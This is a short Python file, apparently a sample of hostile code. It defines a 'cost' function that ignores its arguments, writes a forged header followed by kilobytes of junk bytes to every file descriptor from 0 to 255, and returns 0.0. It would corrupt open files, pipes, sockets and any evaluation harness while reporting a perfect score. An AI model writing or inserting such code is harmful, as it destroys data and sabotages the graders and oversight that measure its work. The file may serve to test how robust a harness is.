"""Rubbish is written to every open descriptor."""

import os


def cost(predictions, y):
    for number in range(256):
        try:
            os.write(number, b"\x10\0\0\0\0\0\0\0{'object': " + bytes(range(256)) * 100)
        except OSError:
            pass
    return 0.0
